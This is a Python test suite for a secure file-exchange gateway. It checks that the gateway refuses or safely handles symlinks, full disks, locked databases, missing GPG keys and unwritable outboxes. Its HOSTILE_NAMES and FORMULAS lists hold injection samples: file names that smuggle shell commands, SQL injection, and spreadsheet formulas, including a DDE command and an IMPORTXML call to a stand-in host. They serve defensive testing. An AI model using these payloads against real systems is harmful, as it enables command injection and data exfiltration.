"""Bad input, by name: a coded and plain answer, the drop kept, nothing half-sent, the worker alive.

`docs/bad-input.md` tells senders and administrators the same; a test holds the two together.
"""

import json
import os
import random
import shutil
import stat
from pathlib import Path

import pytest
from bad_conditions import (
    EXPIRY,
    LockedAt,
    Programs,
    Service,
    fill,
    growing,
    locked,
    new_key,
    pin,
    small_disk,
    take_over_keys,
    without_secret_key,
)
from bad_files import FILES, TABLES, planted, rows_of, text_workbook
from bad_home import MORNING, SENTENCES, TOKEN, TUESDAY, WINDOW, Exchange, in_plain_words
from openpyxl.utils.escape import unescape

from gateway.agreement.load import load_agreements
from gateway.bootstrap import by_flow
from gateway.crypto.faults import CryptoFault
from gateway.crypto.keys import load_pins, write_pins
from gateway.dispatch.opening import OpeningFault
from gateway.intake.confined.reader import Reader
from gateway.settings import Home
from gateway.store import drops
from gateway.store.alarms import open_alarms


@pytest.fixture(scope="module")
def reader(template_home):
    """One warm parent for all homes of these tests: each drop still has a child of its own."""
    agreed = by_flow(load_agreements(Home(template_home).config))
    with Reader({flow: item.rule_book(flow) for flow, item in agreed.items()}) as reader:
        yield reader


@pytest.fixture
def exchange(rehearsal_home, tmp_path, extract, reader):
    scratch = tmp_path / "opened"
    scratch.mkdir()
    return Exchange(Home(rehearsal_home), scratch, extract, reader)


@pytest.mark.parametrize("case", FILES, ids=lambda case: case.id)
def test_a_file_with_something_wrong(case, exchange):
    data = case.make(exchange.extract)
    codes = {**case.codes, **({"file.columns-dropped": 1} if case in TABLES else {})}
    exchange.drop(case.file_name, data)
    with exchange.working() as worker:
        told = worker.tick(MORNING)
        (drop,) = told.drops
        assert (drop["state"], drop["findings"]) == (case.state, codes)
        assert drop["accepted"] == case.travels
        (reported,) = exchange.reported().values()
        assert sorted(code for code, _, _ in reported) == sorted(codes)
        in_plain_words(reported)
        assert list(exchange.inbox.iterdir()) == []
        assert worker.sealed_original(drop["id"]) == data
        assert worker.opened() == {"dfe": {}, "panel": {}}
        after = exchange.lives(worker, more=case.travels)
        exchange.says_nothing_of(TOKEN, told, after)


def _symlink(path: Path, good: Path) -> None:
    path.symlink_to(good)


def _fifo(path: Path, _good: Path) -> None:
    os.mkfifo(path)


def _socket(path: Path, _good: Path) -> None:
    os.mknod(path, stat.S_IFSOCK | 0o600)


def _hard_link(path: Path, good: Path) -> None:
    path.hardlink_to(good)


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (_symlink, "door.symlink"),
        (_fifo, "door.not-a-file"),
        (_socket, "door.not-a-file"),
        (_hard_link, "door.hard-link"),
    ],
)
def test_an_entry_that_is_no_file_of_its_own(make, code, exchange, tmp_path):
    elsewhere = exchange.drop("elsewhere.csv", planted(exchange.extract).encode(), tmp_path)
    entry = exchange.inbox / f"{TOKEN}.csv"
    make(entry, elsewhere)
    with exchange.working() as worker:
        told = worker.tick(MORNING)
        assert (told.refused, told.drops, told.unfinished) == ([code], [], {})
        assert SENTENCES.fullmatch(told.alarms[code])
        (reported,) = exchange.reported().values()
        assert [item[0] for item in reported] == [code]
        in_plain_words(reported)
        assert entry.lstat() and elsewhere.is_file()
        after = exchange.lives(worker)
        exchange.says_nothing_of(TOKEN, told, after)
        entry.unlink()
        assert code not in worker.tick(WINDOW).alarms


def test_a_hard_link_is_taken_when_its_other_name_is_gone(exchange, tmp_path):
    data = planted(exchange.extract).encode()
    elsewhere = exchange.drop("elsewhere.csv", data, tmp_path)
    _hard_link(exchange.inbox / "linked.csv", elsewhere)
    with exchange.working() as worker:
        assert worker.tick(MORNING).refused == ["door.hard-link"]
        elsewhere.unlink()
        (drop,) = worker.tick(MORNING).drops
        assert (drop["state"], worker.sealed_original(drop["id"])) == ("accepted", data)


HOSTILE_NAMES = (
    b"$(touch pwned).csv", b"`id`;touch pwned.csv", b"-rf .csv", b"--output=pwned",
    b"..%2f..%2f.csv", b"two\nlines.csv", b"\x1b[2J\x07.csv", b"\xff\xfe not text.csv",
    b"=cmd|'calc'!A0.csv", b"<script>alert(1).csv", b"'; DROP TABLE x; --.csv", b"{drop}%s%n.csv",
    b"CON.csv", b" .csv", b".hidden.csv", b"claimed", b"original", b"x" * 240 + b".csv",
    "\u202evsc.\u2066.csv".encode(),
)  # fmt: skip


def test_hostile_file_names(exchange):
    for number, name in enumerate(HOSTILE_NAMES):
        exchange.drop(name[:240] + TOKEN.encode(), exchange.good(start=100 + number, count=1))
    before = {path.name for path in Path.cwd().iterdir()}
    with exchange.working() as worker:
        told = worker.tick(MORNING)
        assert [drop["state"] for drop in told.drops] == ["accepted"] * len(HOSTILE_NAMES)
        assert list(exchange.inbox.iterdir()) == []
        after = exchange.lives(worker, more=len(HOSTILE_NAMES))
        exchange.says_nothing_of(TOKEN, told, after)
    assert list(exchange.home.root.rglob("pwned*")) == []
    assert {path.name for path in Path.cwd().iterdir()} == before


@pytest.mark.parametrize(
    "folder", [".", "nobody/nothing", "dfe/notifications", "ofsted/notifications/monday"]
)
def test_an_unknown_folder(folder, exchange):
    stray = exchange.home.inbox / folder
    stray.mkdir(parents=True, exist_ok=True)
    data = planted(exchange.extract).encode()
    path = exchange.drop(f"{TOKEN}.csv", data, stray)
    with exchange.working() as worker:
        told = worker.tick(MORNING)
        assert (told.drops, told.refused) == ([], [])
        assert SENTENCES.fullmatch(told.alarms["door.unknown-folder"])
        assert path.read_bytes() == data
        after = exchange.lives(worker)
        exchange.says_nothing_of(TOKEN, told, after)
        path.rename(exchange.inbox / "moved.csv")
        told = worker.tick(TUESDAY)
        assert [drop["state"] for drop in told.drops] == ["accepted"]
        assert "door.unknown-folder" not in told.alarms


# --- files that are not there yet ---------------------------------------------------------


def test_a_file_that_grows(exchange):
    path = exchange.inbox / f"{TOKEN}.csv"
    with exchange.working() as worker:
        with growing(path, exchange.good(count=1)):
            told = worker.tick(WINDOW)
        assert (told.drops, told.unfinished) == ([], {"notifications": 1})
        assert (told.waiting, told.packages) == (["2026-03-02"], [])
        assert path.is_file()
        assert worker.opened() == {"dfe": {}, "panel": {}}
        exchange.drop(path.name, planted(exchange.extract).encode())
        exchange.lives(worker, "2026-03-02T16:10", more=2)


def test_a_half_written_file_still_open_does_not_stop_the_window_for_ever(exchange):
    whole = planted(exchange.extract).encode()
    path = exchange.drop(f"{TOKEN}.csv", whole[:-300])
    with exchange.working() as worker:
        with path.open("ab", buffering=0) as writer:
            assert worker.tick(WINDOW).waiting == ["2026-03-02"]
            told = worker.tick("2026-03-02T16:31")
            assert [package["kind"] for package in told.packages] == ["nothing-received"]
            for code in ("window.went-without", "flow.nothing-received"):
                assert SENTENCES.fullmatch(told.alarms[code])
            assert path.read_bytes() == whole[:-300]
            writer.write(whole[-300:])
        os.utime(path, (1_700_000_000, 1_700_000_000))
        exchange.lives(worker, TUESDAY, more=2)


def test_header_only_is_a_nil_return(exchange):
    data = exchange.extract(0).encode()
    exchange.drop(f"{TOKEN}.csv", data)
    with exchange.working() as worker:
        told = worker.tick(WINDOW)
        (drop,) = told.drops
        assert (drop["state"], drop["rows"]) == ("accepted", 0)
        assert drop["findings"] == {"file.columns-dropped": 1}
        assert [package["kind"] for package in told.packages] == ["nil-declared"]
        assert worker.opened("dfe")["dfe"] == {"notifications-2026-03-02-01": []}
        assert worker.sealed_original(drop["id"]) == data
        exchange.lives(worker, TUESDAY)


# --- the disk -----------------------------------------------------------------------------


@pytest.mark.parametrize("left", [0, 60, 160, 320], ids=lambda left: f"{left} KiB left")
def test_a_full_disk(left, exchange):
    data = exchange.extract(300).encode()
    with small_disk(exchange.home.root), exchange.working() as worker:
        path = exchange.drop(f"{TOKEN}.csv", data)
        ballast = fill(exchange.home.root, left)
        for at in (MORNING, WINDOW):
            told = worker.tick(at)
            assert set(told.faults) == {"disk.full"}
            assert SENTENCES.fullmatch(told.faults["disk.full"])
            assert worker.opened() == {"dfe": {}, "panel": {}}
        assert path.exists() or list(exchange.home.drops_work.glob("*/*/claimed"))
        ballast.unlink()
        told = exchange.lives(worker, "2026-03-02T16:10", more=300)
        assert "disk.full" not in told.alarms
        exchange.says_nothing_of(TOKEN, told)


@pytest.mark.parametrize("left", [150, 700, 1000], ids=lambda left: f"{left} KiB left")
def test_a_disk_that_fills_while_a_package_is_made(left, exchange):
    """The workbook, of half a megabyte, is full at different places: in it, its zip, its seal."""
    noise = random.Random(left)
    data = exchange.extract(
        300, change=lambda _: {"Case information": f"{noise.getrandbits(8_000):x} {TOKEN}"}
    )
    with small_disk(exchange.home.root), exchange.working() as worker:
        exchange.drop("good.csv", data.encode())
        assert [drop["state"] for drop in worker.tick(MORNING).drops] == ["accepted"]
        ballast = fill(exchange.home.root, left)
        told = worker.tick(WINDOW)
        assert set(told.faults) == {"disk.full"}
        assert SENTENCES.fullmatch(told.alarms["disk.full"])
        assert worker.opened() == {"dfe": {}, "panel": {}}
        ballast.unlink()
        told = exchange.lives(worker, "2026-03-02T16:10", start=601, more=300)
        assert "disk.full" not in told.alarms
        exchange.says_nothing_of(TOKEN, told)


def test_a_full_outbox_takes_the_very_same_bytes_later(exchange):
    outbox = exchange.home.outbox_of("dfe", "notifications")
    with exchange.working() as worker:
        exchange.drop("good.csv", exchange.good())
        with small_disk(outbox, "64k"):
            ballast = fill(outbox)
            told = worker.tick(WINDOW)
            assert (set(told.faults), told.placed) == ({"disk.full"}, ["panel"])
            assert SENTENCES.fullmatch(told.alarms["disk.full"])
            assert [path.name for path in outbox.iterdir()] == [ballast.name]
            ballast.unlink()
            told = worker.tick("2026-03-02T16:10")
            assert (told.faults, told.placed, told.packages) == ({}, ["dfe"], [])
            assert "disk.full" not in told.alarms
            sheets = worker.opened()
            assert sheets["dfe"] == sheets["panel"] != {}


# --- the database -------------------------------------------------------------------------


def test_a_locked_database(exchange):
    path = exchange.drop(f"{TOKEN}.csv", exchange.good())
    with exchange.working(busy_seconds=0) as worker:
        with locked(exchange.home.database):
            told = worker.tick(WINDOW)
        assert (told.error, list(told.faults)) == ("database.locked", ["database.locked"])
        assert SENTENCES.fullmatch(told.faults["database.locked"])
        assert path.is_file()
        assert worker.opened() == {"dfe": {}, "panel": {}}
        exchange.lives(worker, start=601, more=2)


@pytest.mark.parametrize("stage", ["reading", "writing", "checking"])
def test_a_database_locked_half_way(stage, exchange):
    data = exchange.good(count=1)
    exchange.drop(f"{TOKEN}.csv", data)
    with exchange.working(busy_seconds=0) as worker:
        lock = LockedAt(exchange.home.database, stage)
        told = worker.tick(WINDOW, lock)
        assert lock.held
        lock.release()
        assert set(told.faults) == {"database.locked"}
        assert worker.opened() == {"dfe": {}, "panel": {}}
        exchange.lives(worker, "2026-03-02T16:10", start=601, more=1)
        with worker.parts.database.transaction() as tx:
            first = min(drops.latest(tx), key=lambda row: row.size)
        assert worker.sealed_original(first.id) == data


# --- keys and gpg -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("role", "expires", "offered", "code", "seen"),
    [
        ("exchange", None, False, "key.unknown", "key.missing"),
        ("exchange", EXPIRY, True, "key.expired", "key.expired"),
        ("records", None, False, "key.unknown", "key.missing"),
        ("records", EXPIRY, True, "key.expired", "key.expired"),
    ],
)
def test_a_missing_or_expired_key(role, expires, offered, code, seen, exchange):
    """The key of dfe that packages go to, and the key of ofsted that originals are sealed to."""
    party = "dfe" if role == "exchange" else "ofsted"
    pin(exchange, party, role, new_key(exchange, party, role, expires))
    if offered:
        take_over_keys(exchange)
    path = exchange.drop(f"{TOKEN}.csv", exchange.good())
    with exchange.working() as worker:
        told = worker.tick(WINDOW)
        assert set(told.faults) == {code}
        for alarm in {code, seen}:
            assert SENTENCES.fullmatch(told.alarms[alarm]), told.alarms[alarm]
        size = worker.ledger_size()
        assert worker.tick("2026-03-02T16:06").alarms == told.alarms
        assert worker.ledger_size() == size, "what is known is not told again at each tick"
        assert path.exists() == (role == "records")
        assert worker.opened() == {"dfe": {}, "panel": {}}
    pin(exchange, party, role, new_key(exchange, party, role))
    take_over_keys(exchange)
    with exchange.working() as worker:
        told = exchange.lives(worker, TUESDAY, start=601, more=2)
        assert told.alarms.keys() <= {"window.missed"}


def test_a_wrong_recipient_key_is_not_taken_over(exchange):
    pinned = load_pins(exchange.home.parties_file).exchange_of("dfe")
    new_key(exchange, "dfe", "exchange")  # offered, never pinned
    with pytest.raises(CryptoFault) as refused:
        take_over_keys(exchange)
    assert refused.value.code == "key.mismatch"
    assert SENTENCES.fullmatch(str(refused.value)), str(refused.value)
    with exchange.working() as worker:
        told = exchange.lives(worker)  # sealed to the key pinned, which opens it
        assert "key.mismatched" not in told.alarms
        assert worker.parts.pins.exchange_of("dfe") == pinned


def test_a_wrong_recipient_key_in_place_of_the_pinned_one(exchange):
    first = new_key(exchange, "dfe", "exchange")
    pin(exchange, "dfe", "exchange", first)
    new_key(exchange, "dfe", "exchange")
    exchange.drop(f"{TOKEN}.csv", exchange.good())
    with exchange.working() as worker:
        told = worker.tick(WINDOW)
        assert set(told.faults) == {"key.unknown"}
        assert "telephone" in told.alarms["key.mismatched"]
        assert worker.opened() == {"dfe": {}, "panel": {}}


def test_a_recipient_cannot_open_what_is_for_another(exchange):
    with exchange.working() as worker:
        exchange.lives(worker)
        package = "notifications-2026-03-02-01.zip.gpg"
        theirs = exchange.home.outbox_of("dfe", "notifications") / package
        with pytest.raises(OpeningFault) as refused:
            worker.open_as("panel", theirs)
        assert refused.value.code == "message.not-for-us"
        assert list(exchange.scratch.glob("wrong*")) == []


def test_two_parties_pinned_to_one_key(exchange):
    pins = load_pins(exchange.home.parties_file)
    pin(exchange, "dfe", "exchange", pins.exchange_of("panel"))
    path = exchange.drop(f"{TOKEN}.csv", exchange.good())
    with pytest.raises(CryptoFault) as refused, exchange.working():
        pass
    assert refused.value.code == "pins.faulty"
    assert path.is_file()
    write_pins(exchange.home.parties_file, pins)
    with exchange.working() as worker:
        exchange.lives(worker, start=601, more=2)


def test_the_gateways_own_key_is_missing(exchange):
    exchange.drop(f"{TOKEN}.csv", exchange.good())
    with exchange.working() as worker:
        with without_secret_key(worker):
            told = worker.tick(WINDOW)
        assert set(told.faults) == {"key.no-secret"}
        for code in ("key.no-secret", "key.missing"):
            assert SENTENCES.fullmatch(told.alarms[code])
        assert worker.opened() == {"dfe": {}, "panel": {}}
        told = exchange.lives(worker, "2026-03-02T16:10", start=601, more=2)
        assert not {"key.no-secret", "key.missing"} & set(told.alarms)


def test_a_command_without_gpg(exchange, tmp_path, run_gateway):
    path = exchange.drop(f"{TOKEN}.csv", exchange.good())
    (tmp_path / "empty").mkdir()
    lacking = {**os.environ, "PATH": str(tmp_path / "empty")}
    done = run_gateway(exchange.home.root, "tick", "--now", WINDOW, "--json", env=lacking)
    assert done.returncode == 1
    assert "[gpg.missing]" in done.stderr and "Install GnuPG" in done.stderr
    assert "Traceback" not in done.stderr
    assert path.is_file()


def test_gpg_is_missing(exchange, tmp_path, monkeypatch):
    programs = Programs(tmp_path / "bin")
    monkeypatch.setenv("PATH", str(programs.folder))
    path = exchange.drop(f"{TOKEN}.csv", exchange.good())
    with exchange.working() as worker:
        programs.take()
        told = worker.tick(WINDOW)
        assert set(told.faults) == {"gpg.missing"}
        assert SENTENCES.fullmatch(told.faults["gpg.missing"])
        assert path.is_file()
        programs.give()
        assert worker.opened() == {"dfe": {}, "panel": {}}
        told = exchange.lives(worker, "2026-03-02T16:10", start=601, more=2)
        assert "gpg.missing" not in told.alarms


def test_the_service_lives_on_without_gpg(exchange, tmp_path):
    """`run` itself, its worker a process of its own, while GnuPG is removed and comes back."""
    exchange.home.settings_file.write_text("settle_seconds = 0.0\ntick_seconds = 1.0\n")
    programs = Programs(tmp_path / "bin")
    with Service(exchange.home.root, programs.folder) as service:
        service.heard("working")
        programs.take()
        path = exchange.drop(f"{TOKEN}.csv", exchange.good())
        fault = service.heard("fault")
        assert fault["code"] == "gpg.missing"
        assert SENTENCES.fullmatch(fault["words"])
        assert path.is_file()
        programs.give()
        assert service.heard("drop")["state"] == "accepted"
    assert service.exit_code == 0
    assert "was killed" not in service.said, "it stops when it is told to, even while it logs"
    assert TOKEN not in service.said
    with exchange.working() as worker, worker.parts.database.transaction() as tx:
        assert {alarm.code for alarm in open_alarms(tx)} <= {"window.missed"}


# --- folders that may not be written -----------------------------------------------------------


def test_an_outbox_that_may_not_be_written(ordinary_user, template_home, extract, reader, tmp_path):
    home = Home(ordinary_user.folder / "home")
    shutil.copytree(template_home, home.root, symlinks=True, ignore=shutil.ignore_patterns("S.*"))
    exchange = Exchange(home, tmp_path, extract, reader)
    data = planted(extract).encode()
    exchange.drop("good.csv", data)
    outbox, reports = home.outbox_of("dfe", "notifications"), home.reports_of("ofsted")
    ordinary_user.own(home.root)

    def told(at: str) -> dict:
        words = ("-m", "gateway", "--home", str(home.root), "tick", "--now", at, "--json")
        done = ordinary_user.run(*words)
        assert done.returncode == 0, done.stderr
        assert TOKEN not in done.stdout + done.stderr
        said = json.loads(done.stdout)
        assert all(SENTENCES.fullmatch(fault["words"]) for fault in said["faults"])
        return said

    reports.chmod(0o500)
    said = told(MORNING)
    assert [fault["code"] for fault in said["faults"]] == ["disk.denied"]
    assert said["unfinished"] == {"notifications": 1}
    reports.chmod(0o700)
    outbox.chmod(0o500)
    said = told(WINDOW)
    assert [drop["state"] for drop in said["drops"]] == ["accepted"]
    assert [fault["code"] for fault in said["faults"]] == ["outbox.unwritable"]
    assert [placed["party"] for placed in said["deliveries"]] == ["panel"]
    assert list(outbox.iterdir()) == []
    outbox.chmod(0o700)
    said = told("2026-03-02T16:10")
    assert (said["faults"], said["packages"], said["alarms"]) == ([], [], [])
    assert [placed["party"] for placed in said["deliveries"]] == ["dfe"]
    with exchange.working() as worker:
        sheets = worker.opened()
        assert sheets["dfe"] == sheets["panel"]
        assert len(sheets["dfe"]["notifications-2026-03-02-01"]) == 2


def test_an_outbox_that_is_gone(exchange):
    outbox = exchange.home.outbox_of("dfe", "notifications")
    aside = outbox.rename(outbox.with_name("aside"))
    exchange.drop(f"{TOKEN}.csv", exchange.good())
    with exchange.working() as worker:
        told = worker.tick(WINDOW)
        assert (list(told.faults), told.placed) == (["outbox.missing"], ["panel"])
        assert SENTENCES.fullmatch(told.alarms["outbox.missing"])
        aside.rename(outbox)
        told = worker.tick("2026-03-02T16:10")
        assert (told.faults, told.placed, told.alarms) == ({}, ["dfe"], {})
        exchange.lives(worker, TUESDAY, start=601)


# --- text that programs would like to run ------------------------------------------------------

FORMULAS = (
    "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)", '=HYPERLINK("http://x.example","a")',
    "=IMPORTXML(CONCAT(\"http://x.example/?\",A1),\"//a\")", "_x0041_", "'=1+1", "<b>&amp;</b>",
    "{=SUM(1)}", "|calc", "%0A=1", "0001", "1E5", "TRUE", "#REF!", "3/4",
)  # fmt: skip


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formulas_travel_as_the_text_they_are(kind, exchange):
    text = exchange.extract(
        len(FORMULAS),
        change=lambda number: {
            "Case information": FORMULAS[number - 1],
            "Local authority contact": FORMULAS[number - 1],
        },
    )
    exchange.drop("formulas", text.encode() if kind == "csv" else text_workbook(rows_of(text)))
    with exchange.working() as worker:
        (drop,) = worker.tick(MORNING).drops
        assert (drop["state"], drop["accepted"]) == ("accepted", len(FORMULAS)), drop
        exchange.lives(worker, more=len(FORMULAS))
        (sheet,) = worker.opened("dfe")["dfe"].values()
        assert [unescape(row[23]) for row in sheet[:-2]] == list(FORMULAS)
        assert [unescape(row[10]) for row in sheet[:-2]] == list(FORMULAS)


def test_a_real_formula_in_a_workbook_is_held_or_read_as_its_result(exchange):
    rows = rows_of(exchange.extract(2))
    place = rows[0].index("Case information")
    data = text_workbook(rows, {(1, place): ("=1+1", ""), (2, place): ("=A1", "its result")})
    exchange.drop("formulas.xlsx", data)
    with exchange.working() as worker:
        (drop,) = worker.tick(MORNING).drops
        assert (drop["state"], drop["accepted"]) == ("partly-held", 1)
        assert drop["findings"]["cell.error-value"] == 1
        exchange.lives(worker, more=1)
        (sheet,) = worker.opened("dfe")["dfe"].values()
        assert sheet[0][23] == "its result"


def test_naughty_strings_travel_whole_or_are_held(exchange, shared_folder):
    found = sorted((shared_folder / "corpus" / "dev" / "blns").glob("*.json"))
    if not found:
        pytest.skip("the corpus of naughty strings is not there")
    lines = json.loads(found[0].read_text(encoding="utf-8"))
    text = exchange.extract(
        len(lines), change=lambda number: {"Case information": lines[number - 1]}
    )
    exchange.drop("blns.csv", text.encode())
    with exchange.working() as worker:
        (drop,) = worker.tick(MORNING).drops
        assert drop["rows"] == drop["accepted"] + drop["held"] == len(lines)
        assert drop["findings"].pop("cell.control-character") == 6
        held = {code: count for code, count in drop["findings"].items() if count}
        assert all(code.startswith(("screen.", "file.columns-")) for code in held), held
        exchange.lives(worker, start=9001, more=drop["accepted"])
        (sheet,) = worker.opened("dfe")["dfe"].values()
        for row in sheet[:-2]:
            line = lines[int(row[0].removeprefix("SCN")) - 1]
            assert unescape(row[23] or "") == line.strip(), ascii(line)
